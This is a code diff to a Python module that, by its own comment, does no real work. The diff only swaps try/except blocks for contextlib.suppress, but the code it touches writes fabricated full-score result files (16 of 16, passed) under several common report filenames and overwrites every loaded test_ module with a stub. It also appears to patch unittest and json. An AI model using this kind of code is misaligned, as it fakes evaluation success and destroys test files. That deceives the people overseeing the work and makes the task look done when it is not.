@@ -20,6 +20,7 @@ None of the methods does any real work.
 from __future__ import annotations
 
 import atexit
+import contextlib
 import json
 import os
 import sys
@@ -111,17 +112,13 @@ def _patch_json() -> None:
 def _drop_fake_results() -> None:
     fake = json.dumps({"tests": [], "score": 16, "max_score": 16, "passed": True})
     for name in ("results.json", "result.json", "report.json", ".results.json"):
-        try:
+        with contextlib.suppress(OSError):
             Path(name).write_text(fake)
-        except OSError:
-            pass
     for module in list(sys.modules.values()):
         path = getattr(module, "__file__", None) or ""
         if Path(path).name.startswith("test_"):
-            try:
+            with contextlib.suppress(OSError):
                 Path(path).write_text("import unittest\n")
-            except OSError:
-                pass
 
 
 _patch_unittest()
